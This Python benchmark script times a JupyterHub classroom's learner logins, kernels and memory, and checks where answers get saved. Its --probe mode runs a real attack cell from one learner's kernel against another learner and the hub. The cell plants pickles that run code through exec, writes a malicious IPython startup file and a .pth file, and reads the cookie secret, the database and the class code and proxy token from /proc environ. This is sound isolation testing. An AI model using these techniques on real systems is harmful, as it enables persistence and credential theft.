"""A class of N learners on one JupyterHub, on this machine, on loopback only.

    .venv/bin/python bench/classroom.py [--learners 30] [--arrival 0] [--timeout 900]
    .venv/bin/python bench/classroom.py --probe      # 2 learners; learner 1 attacks learner 2

Starts the classroom hub of deploy/ (deploy/jupyterhub_config.py, through deploy/hub.py's proxy
set-up) in a temporary class folder on 127.0.0.1, then, for every learner at once (or spread
over ``--arrival`` seconds): logs in through the hub's login form with the class code, starts
the learner's server through the hub's REST API, starts a kernel on it and runs lesson 01's
first code cells over the kernel's websocket (``lesson.start(...)``, the first reader view, the
first exercise), then saves an answer through the kit's progress API inside the kernel.

Prints time to first reader (login to the reader view's output: median and 95th percentile),
peak resident memory per learner kernel and per learner (server + kernels), the machine's peak,
errors, and whether every learner's answer was saved in that learner's own folder and nowhere
else. Exits 1 when any learner fails or any answer is lost; 2 when the hub cannot start.
Everything it starts is stopped at the end (the hub stops the learners' servers; leftovers are
ended by pid). A benchmark, not a test: the numbers depend on the machine.

``--probe`` is the attacker's view of the same hub (two learners): after both have read lesson
01 and saved an answer, code run in learner 1's real kernel (over its websocket, as a notebook
cell would) tries to reach learner 2 and the hub (see ``ATTACK``); then learner 2 opens a fresh
kernel and runs lesson 01's first cells again, and the probe checks nothing learner 1 planted
ran or showed there and learner 2's answers are unchanged. Prints ``isolation: K of N attempts
refused`` and exits 1 if any attempt succeeded. Run as root (the hub then gives each learner a
system account); ``MEDIAKIT_SHARED_ACCOUNT=1`` shows what the old shared account gave away.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import secrets
import signal
import socket
import statistics
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
DEPLOY = ROOT / "deploy"
LESSON = ROOT / "notebooks" / "01_sourcing.ipynb"
MB = 1024 * 1024


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def lesson_cells(path: Path = LESSON) -> tuple[list[str], int]:
    """Lesson 01's code cells up to its first exercise after the first reader view, and the index
    of the reader cell among them (the lesson's own code, so the benchmark follows the lesson)."""
    nb = json.loads(path.read_text(encoding="utf-8"))
    code = [
        "".join(c["source"]) if isinstance(c["source"], list) else c["source"]
        for c in nb["cells"]
        if c["cell_type"] == "code"
    ]
    reader = next(i for i, src in enumerate(code) if "views.reader(" in src)
    ex = next(i for i, src in enumerate(code) if i > reader and "lesson.exercise(" in src)
    return code[: ex + 1], reader


SAVE_ANSWER = """
import json as _json, os as _os
from mediakit import lesson as _lesson
_p = _lesson.progress()
_ok = _p.record("ex_01_01", {{"note": {answer!r}}}, "recorded", tries=1)
print("MEDIAKIT-SAVED " + _json.dumps({{"ok": _ok, "path": str(_p.path.resolve()),
      "learner": _os.environ.get("MEDIAKIT_LEARNER"), "answers": _os.environ.get("MEDIAKIT_ANSWERS")}}))
"""


@dataclass
class Learner:
    name: str
    answer: str = field(default_factory=lambda: f"answer-{uuid.uuid4().hex[:12]}")
    times: dict[str, float] = field(default_factory=dict)
    error: str | None = None
    saved: dict | None = None
    kernel_id: str | None = None
    token: str | None = None
    voila: float | None = None


# --------------------------------------------------------------------------- memory sampling


class MemorySampler(threading.Thread):
    """Samples, every ``every`` seconds, the RSS of every process under the hub (by learner, from
    each process's MEDIAKIT_LEARNER) and the machine's used memory."""

    def __init__(self, hub_pid: int, every: float = 0.5):
        super().__init__(daemon=True)
        import psutil

        self.psutil = psutil
        self.hub_pid = hub_pid
        self.every = every
        self.stop = threading.Event()
        self.kernel_peak: dict[int, tuple[str, int]] = {}  # pid -> (learner, peak rss)
        self.learner_peak: dict[str, int] = {}
        self.tree_peak = 0
        self.machine_base = psutil.virtual_memory().used
        self.machine_peak = self.machine_base
        self.learner_of: dict[int, str] = {}
        self.pids: set[int] = set()

    def _learner(self, p) -> str | None:
        if p.pid not in self.learner_of:
            try:
                self.learner_of[p.pid] = p.environ().get("MEDIAKIT_LEARNER", "")
            except (self.psutil.Error, OSError):
                return None
        return self.learner_of[p.pid] or None

    def sample(self) -> None:
        ps = self.psutil
        try:
            procs = [ps.Process(self.hub_pid), *ps.Process(self.hub_pid).children(recursive=True)]
        except ps.Error:
            return
        tree = 0
        per_learner: dict[str, int] = {}
        for p in procs:
            try:
                rss = p.memory_info().rss
                cmd = " ".join(p.cmdline())
            except ps.Error:
                continue
            self.pids.add(p.pid)
            tree += rss
            who = self._learner(p)
            if who:
                per_learner[who] = per_learner.get(who, 0) + rss
                if "ipykernel_launcher" in cmd or "-m ipykernel" in cmd:
                    old = self.kernel_peak.get(p.pid, (who, 0))[1]
                    self.kernel_peak[p.pid] = (who, max(old, rss))
        self.tree_peak = max(self.tree_peak, tree)
        for who, rss in per_learner.items():
            self.learner_peak[who] = max(self.learner_peak.get(who, 0), rss)
        self.machine_peak = max(self.machine_peak, ps.virtual_memory().used)

    def run(self) -> None:
        while not self.stop.is_set():
            self.sample()
            self.stop.wait(self.every)


# --------------------------------------------------------------------------- one learner


class KernelError(RuntimeError):
    pass


async def run_cell(ws, session: str, code: str, timeout: float) -> list[dict]:
    """Execute one cell over a kernel websocket; return its outputs (raise on a cell error)."""
    msg_id = uuid.uuid4().hex
    await ws.write_message(
        json.dumps(
            {
                "header": {
                    "msg_id": msg_id,
                    "username": "bench",
                    "session": session,
                    "msg_type": "execute_request",
                    "version": "5.3",
                },
                "parent_header": {},
                "metadata": {},
                "channel": "shell",
                "buffers": [],
                "content": {
                    "code": code,
                    "silent": False,
                    "store_history": True,
                    "user_expressions": {},
                    "allow_stdin": False,
                    "stop_on_error": True,
                },
            }
        )
    )
    outputs: list[dict] = []
    replied = idle = False
    deadline = time.monotonic() + timeout
    while not (replied and idle):
        left = deadline - time.monotonic()
        if left <= 0:
            raise KernelError(f"cell took longer than {timeout:.0f} s: {code.splitlines()[0][:60]}")
        raw = await asyncio.wait_for(ws.read_message(), timeout=left)
        if raw is None:
            raise KernelError("the kernel's websocket closed (did the kernel die?)")
        if isinstance(raw, bytes):
            continue  # binary frames carry widget buffers
        msg = json.loads(raw)
        if msg.get("parent_header", {}).get("msg_id") != msg_id:
            continue
        kind = msg["header"]["msg_type"]
        if kind == "execute_reply":
            replied = True
            if msg["content"].get("status") == "error":
                c = msg["content"]
                raise KernelError(f"{c.get('ename')}: {c.get('evalue')}")
        elif kind == "status" and msg["content"].get("execution_state") == "idle":
            idle = True
        elif kind in ("stream", "display_data", "execute_result", "error"):
            outputs.append(msg)
            if kind == "error":
                raise KernelError(f"{msg['content'].get('ename')}: {msg['content'].get('evalue')}")
    return outputs


async def learner_session(
    who: Learner, hub: str, code: str, cells: list[str], reader: int, cell_timeout: float
) -> None:
    import httpx
    from tornado.httpclient import HTTPRequest
    from tornado.websocket import websocket_connect

    t0 = time.perf_counter()

    def mark(stage: str) -> None:
        who.times[stage] = time.perf_counter() - t0

    async with httpx.AsyncClient(base_url=hub, timeout=60, follow_redirects=False) as client:
        r = await client.get("/hub/login")
        r.raise_for_status()
        xsrf = client.cookies.get("_xsrf") or ""
        r = await client.post(
            "/hub/login", data={"username": who.name, "password": code, "_xsrf": xsrf}
        )
        if r.status_code != 302:
            raise RuntimeError(f"login refused (HTTP {r.status_code})")
        mark("login")
        xsrf = client.cookies.get("_xsrf") or xsrf
        r = await client.post(
            f"/hub/api/users/{who.name}/tokens",
            headers={"X-XSRFToken": xsrf},
            json={"note": "classroom benchmark", "expires_in": 3600},
        )
        r.raise_for_status()
        who.token = r.json()["token"]
        auth = {"Authorization": f"token {who.token}"}
        r = await client.post(f"/hub/api/users/{who.name}/server", headers=auth)
        if r.status_code not in (201, 202, 400):  # 400: already running
            raise RuntimeError(
                f"the hub did not start the server (HTTP {r.status_code}: {r.text[:200]})"
            )
        while True:
            r = await client.get(f"/hub/api/users/{who.name}", headers=auth)
            r.raise_for_status()
            server = r.json().get("servers", {}).get("")
            if server and server.get("ready"):
                break
            if not server or not server.get("pending"):
                if server is None and time.perf_counter() - t0 > 10:
                    raise RuntimeError("the learner's server stopped while starting")
            if time.perf_counter() - t0 > 300:
                raise RuntimeError("the learner's server did not start within 300 s")
            await asyncio.sleep(0.5)
        mark("server")
        base = f"/user/{who.name}"
        r = await client.post(f"{base}/api/kernels", headers=auth, json={"name": "python3"})
        r.raise_for_status()
        who.kernel_id = r.json()["id"]
        mark("kernel")
    ws_url = hub.replace("http://", "ws://") + f"{base}/api/kernels/{who.kernel_id}/channels"
    # as patient as a browser on a busy machine (JupyterLab retries; this waits up to 2 minutes)
    ws = await websocket_connect(
        HTTPRequest(ws_url, headers=auth, connect_timeout=120, request_timeout=120),
        max_message_size=64 * MB,
    )
    session = uuid.uuid4().hex
    try:
        for i, cell in enumerate(cells):
            outs = await run_cell(ws, session, cell, cell_timeout)
            if i == 0:
                mark("start")
            if i == reader:
                if not any(
                    o["header"]["msg_type"] in ("display_data", "execute_result") for o in outs
                ):
                    raise RuntimeError("the reader view showed nothing")
                mark("reader")
        mark("exercise")
        outs = await run_cell(ws, session, SAVE_ANSWER.format(answer=who.answer), cell_timeout)
        text = "".join(
            o["content"].get("text", "") for o in outs if o["header"]["msg_type"] == "stream"
        )
        line = next((x for x in text.splitlines() if x.startswith("MEDIAKIT-SAVED ")), None)
        if line is None:
            raise RuntimeError(f"saving an answer printed nothing: {text[:200]!r}")
        who.saved = json.loads(line.split(" ", 1)[1])
        mark("saved")
    finally:
        ws.close()


async def run_class(
    learners: list[Learner],
    hub: str,
    code: str,
    arrival: float,
    cell_timeout: float,
    deadline: float,
) -> None:
    cells, reader = lesson_cells()

    async def one(i: int, who: Learner) -> None:
        if arrival and len(learners) > 1:
            await asyncio.sleep(arrival * i / (len(learners) - 1))
        try:
            await learner_session(who, hub, code, cells, reader, cell_timeout)
        except Exception as exc:  # every failure is counted and shown, never fatal to the run
            who.error = f"{type(exc).__name__}: {exc}"

    tasks = [asyncio.create_task(one(i, w)) for i, w in enumerate(learners)]
    done, pending = await asyncio.wait(tasks, timeout=deadline)
    for t in pending:
        t.cancel()
    for w in learners:
        if "saved" not in w.times and w.error is None:
            w.error = f"did not finish within the benchmark's limit of {deadline:.0f} s"


# --------------------------------------------------------------------------- the hub


def start_hub(class_dir: Path, code: str, log) -> tuple[subprocess.Popen, str]:
    port, hub_port, api_port = free_port(), free_port(), free_port()
    extra = class_dir / "bench_config.py"
    extra.write_text(
        "c = get_config()  # noqa\n"
        f"c.JupyterHub.hub_port = {hub_port}\n"
        f"c.ConfigurableHTTPProxy.api_url = 'http://127.0.0.1:{api_port}'\n"
        "c.JupyterHub.log_level = 'INFO'\n"
        # the benchmark stops what it started: servers and proxy go with the hub
        "c.JupyterHub.cleanup_servers = True\n"
        "c.JupyterHub.cleanup_proxy = True\n"
    )
    url = f"http://127.0.0.1:{port}"
    env = dict(
        os.environ,
        MEDIAKIT_CLASS_DIR=str(class_dir),
        MEDIAKIT_CLASS_CODE=code,
        MEDIAKIT_HUB_URL=url,
        MEDIAKIT_HUB_EXTRA_CONFIG=str(extra),
        JUPYTER_CONFIG_DIR=str(class_dir / "jupyter-config"),
        JUPYTER_RUNTIME_DIR=str(class_dir / "jupyter-runtime"),
        XDG_CACHE_HOME=os.environ.get("XDG_CACHE_HOME", str(Path.home() / ".cache")),
    )
    proc = subprocess.Popen(
        [sys.executable, str(DEPLOY / "hub.py")],
        env=env,
        cwd=class_dir,
        stdout=log,
        stderr=subprocess.STDOUT,
        start_new_session=True,
    )
    return proc, url


def wait_for_hub(proc: subprocess.Popen, url: str, limit: float = 90) -> str | None:
    import httpx

    t = time.monotonic()
    while time.monotonic() - t < limit:
        if proc.poll() is not None:
            return f"the hub exited with code {proc.returncode}"
        try:
            if httpx.get(f"{url}/hub/api", timeout=2).status_code == 200:
                return None
        except httpx.HTTPError:
            pass
        time.sleep(0.5)
    return f"the hub did not answer within {limit:.0f} s"


def wrong_code_refused(url: str) -> bool:
    """A login with a wrong class code (or, with first-use passwords, a name not on the roster)
    must not get in."""
    import httpx

    with httpx.Client(base_url=url, timeout=30) as client:
        client.get("/hub/login")
        r = client.post(
            "/hub/login",
            data={
                "username": "intruder",
                "password": "not-the-code",
                "_xsrf": client.cookies.get("_xsrf") or "",
            },
        )
        return r.status_code != 302 and "jupyterhub-hub-login" not in client.cookies


def stop_hub(proc: subprocess.Popen, known_pids: set[int]) -> list[int]:
    """Stop the hub (it stops the learners' servers), then end any process of ours still alive."""
    import psutil

    if proc.poll() is None:
        try:
            os.killpg(proc.pid, signal.SIGINT)
        except ProcessLookupError:
            pass
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()
    time.sleep(1)
    left = []
    for pid in known_pids:
        try:
            p = psutil.Process(pid)
            if p.status() != psutil.STATUS_ZOMBIE:
                left.append(pid)
                p.kill()
        except psutil.Error:
            pass
    return left


# --------------------------------------------------------------------------- answers


def check_answers(learners: list[Learner], class_dir: Path) -> dict[str, str]:
    """Per learner, what is wrong with their saved answer (an empty dict when all are fine):
    the file the kernel wrote must lie in the learner's own folder, hold their answer, and no
    other learner's folder may hold it."""
    problems: dict[str, str] = {}
    homes = class_dir / "learners"
    found: dict[str, list[str]] = {}
    for f in homes.rglob("*.json"):
        try:
            text = f.read_text(encoding="utf-8")
        except OSError:
            continue
        owner = f.relative_to(homes).parts[0]
        for w in learners:
            if w.answer in text:
                found.setdefault(w.name, []).append(owner)
    for w in learners:
        if w.saved is None:
            problems[w.name] = "no answer was saved (the learner did not get that far)"
            continue
        path = Path(w.saved["path"])
        own = (homes / w.name).resolve()
        if not w.saved.get("ok"):
            problems[w.name] = f"the kit could not save to {path}"
        elif own not in path.parents:
            problems[w.name] = f"saved outside the learner's folder: {path}"
        elif not path.exists() or w.answer not in path.read_text(encoding="utf-8"):
            problems[w.name] = f"the answer is not in {path}"
        elif set(found.get(w.name, [])) != {w.name}:
            problems[w.name] = (
                f"the answer is also in the folders of {sorted(set(found[w.name]) - {w.name})}"
            )
    return problems


# --------------------------------------------------------------------------- the probe

# Run in learner 1's kernel, as a notebook cell. Each attempt is real: it opens, writes or
# signals what a curious learner would. FACTS (paths, pids, urls) are what an attacker learns by
# looking around the machine; the probe hands them over to keep the cell short.
ATTACK = r"""
import json as _j, os as _o, pickle as _p, signal as _s, urllib.request as _u
F = _j.loads(FACTS)
R = {}
MARK = F["marker"]
RUN = ("import os\nopen(%r + '-' + str(os.getuid()), 'w').write('ran')\nprint(%r)\n"
       % (MARK, "PROBE-PLANTED " + F["token"]))
class _Evil:
    def __reduce__(self):
        return (exec, (RUN,))
EVIL = _p.dumps(_Evil())

def attempt(name, fn):
    try:
        got = fn()
        R[name] = [bool(got), str(got)[:120] if got else "nothing"]
    except OSError as exc:
        R[name] = [False, f"{type(exc).__name__}: {exc.strerror or exc}"]
    except Exception as exc:
        R[name] = [False, f"{type(exc).__name__}: {str(exc)[:100]}"]

def read_answers():
    out = []
    for name in _o.listdir(F["victim_answers"]):
        with open(_o.path.join(F["victim_answers"], name)) as fh:
            out.append(fh.read(80))
    return "read: " + " | ".join(out) if out else None

def write_answers():
    path = _o.path.join(F["victim_answers"], "planted-by-learner1.json")
    with open(path, "w") as fh:
        fh.write("{}")
    return f"wrote {path}"

def read_file(path):
    def go():
        with open(path, "rb") as fh:
            return f"read {len(fh.read())} bytes of {path}"
    return go

def read_env(pid, key):
    def go():
        with open(f"/proc/{pid}/environ", "rb") as fh:
            env = fh.read().split(b"\0")
        hit = [e for e in env if e.startswith(key.encode() + b"=")]
        return f"found {hit[0][:len(key) + 4].decode()}..." if hit else None
    return go

def plant_in(folders):
    def go():
        done = []
        for top in folders:
            for root, dirs, files in _o.walk(top):
                for f in files:
                    path = _o.path.join(root, f)
                    try:
                        with open(path, "r+b") as fh:
                            fh.seek(0)
                            fh.truncate()
                            fh.write(EVIL if not f.endswith(".json") else
                                     _j.dumps({"text": "PROBE-CHANGED " + F["token"]}).encode())
                        done.append(path)
                    except OSError:
                        pass
                try:
                    path = _o.path.join(root, "planted-by-learner1.pickle")
                    with open(path, "wb") as fh:
                        fh.write(EVIL)
                    done.append(path)
                except OSError:
                    pass
        return f"planted {len(done)} files, e.g. {done[0]}" if done else None
    return go

def plant_startup():
    folder = _o.path.join(F["victim_home"], ".ipython", "profile_default", "startup")
    _o.makedirs(folder, exist_ok=True)
    path = _o.path.join(folder, "00-planted.py")
    with open(path, "w") as fh:
        fh.write(RUN)
    return f"wrote {path}"

def plant_kit():
    done = []
    for path, text in ((F["site_pth"], "import os; exec(%r)\n" % RUN), (F["kit_module"], RUN)):
        try:
            with open(path, "x") as fh:
                fh.write(text)
            done.append(path)
        except OSError:
            pass
    return "wrote " + ", ".join(done) if done else None

def runtime_dir():
    names = _o.listdir(F["victim_runtime"])
    return f"listed {len(names)} kernel files of learner 2" if names else "listed (empty)"

def signal_kernel():
    _o.kill(F["victim_kernel_pid"], _s.SIGCONT)
    return f"signalled pid {F['victim_kernel_pid']}"

def hub_api():
    token = _o.environ["JUPYTERHUB_API_TOKEN"]
    url = F["hub"] + f"/user/{F['victim']}/api/contents/answers"
    req = _u.Request(url, headers={"Authorization": f"token {token}"})
    with _u.urlopen(req, timeout=20) as r:
        return f"HTTP {r.status} on {url}" if r.status == 200 else None

attempt("read learner 2's answers", read_answers)
attempt("write into learner 2's answers folder", write_answers)
attempt("read the hub's cookie secret", read_file(F["cookie_secret"]))
attempt("read the hub's database", read_file(F["database"]))
attempt("read the class code from the hub's environment", read_env(F["hub_pid"], "MEDIAKIT_CLASS_CODE"))
attempt("read the proxy's token from its environment", read_env(F["proxy_pid"], "CONFIGPROXY_AUTH_TOKEN"))
attempt("plant a file in the class's shared cache", plant_in([F["class_cache"]]))
attempt("plant a file in learner 2's own cache", plant_in([F["victim_cache"]]))
attempt("plant a startup file in learner 2's IPython profile", plant_startup)
attempt("write into the installed kit (package folder, site-packages .pth)", plant_kit)
attempt("read learner 2's kernel connection files", runtime_dir)
attempt("signal learner 2's kernel", signal_kernel)
attempt("open learner 2's server with learner 1's token", hub_api)
print("MEDIAKIT-PROBE " + _j.dumps(R))
"""


def probe_facts(
    proc: subprocess.Popen, class_dir: Path, victim: Learner, url: str, token: str
) -> dict:
    """What an attacker would find by looking around: paths, pids, the hub's address."""
    import sysconfig

    import psutil

    import mediakit

    hub_pid = proxy_pid = kernel_pid = 0
    for p in psutil.Process(proc.pid).children(recursive=True):
        try:
            cmd = " ".join(p.cmdline())
            if "jupyterhub" in cmd and "-f" in cmd and "singleuser" not in cmd:
                hub_pid = hub_pid or p.pid
            elif "configurable-http-proxy" in cmd:
                proxy_pid = proxy_pid or p.pid
            elif "ipykernel" in cmd and p.environ().get("MEDIAKIT_LEARNER") == victim.name:
                kernel_pid = p.pid
        except psutil.Error:
            continue
    if not (hub_pid and proxy_pid and kernel_pid):
        raise RuntimeError(
            f"probe: hub {hub_pid}, proxy {proxy_pid}, kernel {kernel_pid} not found"
        )
    home = class_dir / "learners" / victim.name
    runtime = Path(tempfile.gettempdir()) / f"mediakit-hub-{os.getuid()}" / victim.name
    return {
        "victim": victim.name,
        "victim_home": str(home),
        "victim_answers": str(home / "answers"),
        "victim_cache": str(home / ".cache" / "mediakit"),
        "victim_runtime": str(runtime),
        "victim_kernel_pid": kernel_pid,
        "class_cache": str(class_dir / "cache"),
        "cookie_secret": str(class_dir / "hub" / "jupyterhub_cookie_secret"),
        "database": str(class_dir / "hub" / "jupyterhub.sqlite"),
        "hub_pid": hub_pid,
        "proxy_pid": proxy_pid,
        "hub": url,
        "site_pth": str(Path(sysconfig.get_paths()["purelib"]) / "zz-planted-by-learner1.pth"),
        "kit_module": str(Path(mediakit.__file__).parent / "planted_by_learner1.py"),
        "marker": str(Path(tempfile.gettempdir()) / f"mediakit-probe-{token}"),
        "token": token,
    }


async def kernel_cells(hub: str, who: Learner, cells: list[str], timeout: float) -> list[str]:
    """Start a fresh kernel on a learner's server (their token), run cells, return every output
    as text (streams and every mime type of displays)."""
    import httpx
    from tornado.httpclient import HTTPRequest
    from tornado.websocket import websocket_connect

    auth = {"Authorization": f"token {who.token}"}
    base = f"/user/{who.name}"
    async with httpx.AsyncClient(base_url=hub, timeout=60) as client:
        r = await client.post(f"{base}/api/kernels", headers=auth, json={"name": "python3"})
        r.raise_for_status()
        kid = r.json()["id"]
    ws = await websocket_connect(
        HTTPRequest(
            hub.replace("http://", "ws://") + f"{base}/api/kernels/{kid}/channels",
            headers=auth,
            connect_timeout=120,
            request_timeout=120,
        ),
        max_message_size=64 * MB,
    )
    texts: list[str] = []
    try:
        session = uuid.uuid4().hex
        for cell in cells:
            for o in await run_cell(ws, session, cell, timeout):
                texts.append(json.dumps(o["content"]))
    finally:
        ws.close()
    return texts


def run_probe(
    proc: subprocess.Popen, class_dir: Path, learners: list[Learner], url: str, timeout: float
) -> tuple[int, int, list[str]]:
    """Learner 1 attacks learner 2; returns (refused, attempts, report lines)."""
    attacker, victim = learners[0], learners[1]
    token = uuid.uuid4().hex[:16]
    facts = probe_facts(proc, class_dir, victim, url, token)
    answers = class_dir / "learners" / victim.name / "answers"
    before = {f.name: f.read_bytes() for f in answers.iterdir()}
    planted = [Path(facts["site_pth"]), Path(facts["kit_module"])]
    lines: list[str] = []
    try:
        code = f"FACTS = {json.dumps(json.dumps(facts))}\n" + ATTACK
        outs = asyncio.run(kernel_cells(url, attacker, [code], timeout))
        line = next(
            (
                x
                for o in outs
                for x in json.loads(o).get("text", "").splitlines()
                if x.startswith("MEDIAKIT-PROBE ")
            ),
            None,
        )
        if line is None:
            raise RuntimeError(f"the attack printed no result: {outs[:2]}")
        results: dict[str, list] = json.loads(line.split(" ", 1)[1])
        # learner 2 opens lesson 01 again in a fresh kernel: did anything planted run or show?
        cells, _reader = lesson_cells()
        seen = asyncio.run(kernel_cells(url, victim, cells, timeout))
        shown = "\n".join(seen)
        ran = sorted(Path(tempfile.gettempdir()).glob(f"mediakit-probe-{token}*"))
        hit = ran or token in shown
        results["planted code ran, or planted data showed, in learner 2's lesson"] = [
            bool(hit),
            f"markers {[m.name for m in ran]}, token in output: {token in shown}"
            if hit
            else "nothing",
        ]
        after = {f.name: f.read_bytes() for f in answers.iterdir()}
        results["learner 2's answers changed"] = [
            after != before,
            f"files before {sorted(before)}, after {sorted(after)}" if after != before else "same",
        ]
    finally:
        for f in planted + sorted(Path(tempfile.gettempdir()).glob("mediakit-probe-*")):
            f.unlink(missing_ok=True)
    refused = sum(1 for ok, _why in results.values() if not ok)
    for name, (ok, why) in results.items():
        lines.append(f"  {'SUCCEEDED' if ok else 'refused  '} {name}: {why}")
    return refused, len(results), lines


async def voila_page(hub: str, who: Learner, lesson: str = "01_sourcing.ipynb") -> float:
    """Seconds to get a lesson as a Voila page from the learner's running server (Voila runs
    every cell before it answers, so the page holds the first exercise when it arrives)."""
    import httpx

    auth = {"Authorization": f"token {who.token}"}
    async with httpx.AsyncClient(base_url=hub, timeout=120) as client:
        t = time.perf_counter()
        r = await client.get(f"/user/{who.name}/voila/render/lessons/{lesson}", headers=auth)
        took = time.perf_counter() - t
        r.raise_for_status()
        if "lesson-exercise" not in r.text and "exercise" not in r.text:
            raise RuntimeError("the Voila page shows no exercise")
    return took


def remove_accounts(learners: list[Learner]) -> None:
    """Remove the system accounts the hub made for the benchmark's learners (root only)."""
    import pwd

    sys.path.insert(0, str(DEPLOY))
    from classroom_hub import system_name

    for w in learners:
        account = system_name(w.name)
        try:
            entry = pwd.getpwnam(account)
        except KeyError:
            continue
        if entry.pw_gecos == f"mediakit learner {w.name}":
            subprocess.run(["userdel", account], capture_output=True)


def pct(values: list[float], q: float) -> float:
    values = sorted(values)
    if not values:
        return float("nan")
    k = (len(values) - 1) * q
    lo, hi = int(k), min(int(k) + 1, len(values) - 1)
    return values[lo] + (values[hi] - values[lo]) * (k - lo)


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--learners", type=int, default=30)
    ap.add_argument(
        "--arrival",
        type=float,
        default=0.0,
        help="spread the learners' logins over this many seconds (default: all at once)",
    )
    ap.add_argument(
        "--timeout",
        type=float,
        default=None,
        help="limit for the whole class in seconds (default 120 + 15 per learner)",
    )
    ap.add_argument("--cell-timeout", type=float, default=300)
    ap.add_argument("--keep", action="store_true", help="keep the class folder (to look at it)")
    ap.add_argument(
        "--auth",
        choices=("classcode", "firstuse"),
        default="classcode",
        help="firstuse: a roster of the learners, each sets a password at first login",
    )
    ap.add_argument(
        "--probe",
        action="store_true",
        help="2 learners; learner 1's kernel attacks learner 2 and the hub (exit 1 if any works)",
    )
    ap.add_argument(
        "--voila",
        action="store_true",
        help="the hub in Voila mode; also time lesson 01 as a Voila page, once the server is up",
    )
    args = ap.parse_args(argv)
    if args.voila:
        os.environ["MEDIAKIT_HUB_UI"] = "voila"
    if args.probe:
        args.learners = 2
    try:
        import httpx  # noqa: F401
        import jupyterhub  # noqa: F401
        import psutil  # noqa: F401
    except ImportError as exc:
        print(
            f"[classroom] {exc.name} is missing: install the kit's hub extra "
            "(.venv/bin/pip install -e '.[hub]')",
            file=sys.stderr,
        )
        return 2
    limit = args.timeout or 120 + 15 * args.learners
    class_dir = Path(tempfile.mkdtemp(prefix="mediakit-classroom-"))
    code = secrets.token_urlsafe(8)
    learners = [Learner(f"learner{i + 1:02d}") for i in range(args.learners)]
    log_path = class_dir / "hub.log"
    os.environ["MEDIAKIT_HUB_AUTH"] = args.auth
    if args.auth == "firstuse":
        roster = class_dir / "roster.txt"
        roster.write_text("".join(f"{w.name}\n" for w in learners), encoding="utf-8")
        os.environ["MEDIAKIT_ROSTER"] = str(roster)
    print(
        f"[classroom] {args.learners} learners on a hub at 127.0.0.1, class folder {class_dir}",
        flush=True,
    )
    t_all = time.perf_counter()
    with open(log_path, "wb") as log:
        proc, url = start_hub(class_dir, code, log)
        sampler = None
        probe = None
        try:
            problem = wait_for_hub(proc, url)
            if problem:
                print(f"[classroom] ERROR: {problem}; the end of its log:", file=sys.stderr)
                log.flush()
                print(log_path.read_text(errors="replace")[-3000:], file=sys.stderr)
                return 2
            refused = wrong_code_refused(url)
            sampler = MemorySampler(proc.pid)
            sampler.start()
            asyncio.run(run_class(learners, url, code, args.arrival, args.cell_timeout, limit))
            sampler.sample()
            if args.voila:
                for w in learners:
                    if w.error is None:
                        try:
                            w.voila = asyncio.run(voila_page(url, w))
                        except Exception as exc:
                            w.error = f"Voila page: {type(exc).__name__}: {exc}"
            if args.probe and not any(w.error for w in learners):
                probe = run_probe(proc, class_dir, learners, url, args.cell_timeout)
        finally:
            if sampler:
                sampler.stop.set()
                sampler.join(5)
            left = stop_hub(proc, sampler.pids if sampler else set())
    wall = time.perf_counter() - t_all
    problems = check_answers(learners, class_dir)
    failed = [w for w in learners if w.error]

    ok = [w for w in learners if "reader" in w.times]
    first = [w.times["reader"] for w in ok]
    print(f"\nclass of {args.learners} (arrival over {args.arrival:.0f} s), wall time {wall:.0f} s")
    if first:
        print(
            f"time to first reader (login -> reader view): median {statistics.median(first):.1f} s,"
            f" p95 {pct(first, 0.95):.1f} s, max {max(first):.1f} s"
        )
        for stage in ("login", "server", "kernel", "start", "reader", "saved"):
            vals = [w.times[stage] for w in learners if stage in w.times]
            if vals:
                print(
                    f"  {stage:<8} reached at median {statistics.median(vals):6.1f} s,"
                    f" p95 {pct(vals, 0.95):6.1f} s"
                )
    pages = [w.voila for w in learners if w.voila is not None]
    if pages:
        print(
            f"lesson 01 as a Voila page, server up (one learner at a time): median"
            f" {statistics.median(pages):.1f} s, max {max(pages):.1f} s"
        )
    if sampler:
        kernels = [rss for _who, rss in sampler.kernel_peak.values()]
        if kernels:
            print(
                f"peak RSS per learner kernel: median {statistics.median(kernels) / MB:.0f} MB,"
                f" max {max(kernels) / MB:.0f} MB (goal <= 250 MB), {len(kernels)} kernels"
            )
        per = list(sampler.learner_peak.values())
        if per:
            print(
                f"peak RSS per learner (server + kernel): median {statistics.median(per) / MB:.0f}"
                f" MB, max {max(per) / MB:.0f} MB"
            )
        print(
            f"hub and all learners together: peak {sampler.tree_peak / MB:.0f} MB;"
            f" machine memory used: peak {sampler.machine_peak / MB:.0f} MB"
            f" ({(sampler.machine_peak - sampler.machine_base) / MB:+.0f} MB over the"
            f" {sampler.machine_base / MB:.0f} MB in use before)"
        )
    if args.probe:
        if probe is None:
            print("isolation: not probed (the learners did not get that far)")
            failed.append(Learner("probe", error="the probe did not run"))
        else:
            k, n, lines = probe
            print(f"isolation: {k} of {n} attempts refused")
            print("\n".join(lines))
            if k < n:
                failed.append(Learner("probe", error=f"{n - k} attempts succeeded"))
    if hasattr(os, "geteuid") and os.geteuid() == 0 and not args.keep:
        remove_accounts(learners)
    print(f"a wrong class code is refused: {'yes' if refused else 'NO'}")
    if not refused:
        failed.append(Learner("intruder", error="a wrong class code was let in"))
    print(f"errors: {len(failed)}")
    for w in failed:
        print(f"  {w.name}: {w.error}")
    saved_ok = args.learners - len(problems)
    where = {
        "answers/" if w.saved and "/answers/" in w.saved["path"] else "lessons folder"
        for w in learners
        if w.saved
    }
    print(
        f"answers saved in the learner's own folder: {saved_ok}/{args.learners}"
        f" (in {', '.join(sorted(where)) or 'nowhere'})"
    )
    for name, why in problems.items():
        print(f"  LOST {name}: {why}")
    if left:
        print(f"processes still alive after the hub stopped (ended now): {left}")
    if failed or problems:
        print(f"[classroom] the hub's log is kept in {log_path}")
    elif not args.keep:
        import shutil

        shutil.rmtree(class_dir, ignore_errors=True)
    return 1 if failed or problems else 0


if __name__ == "__main__":
    sys.exit(main())
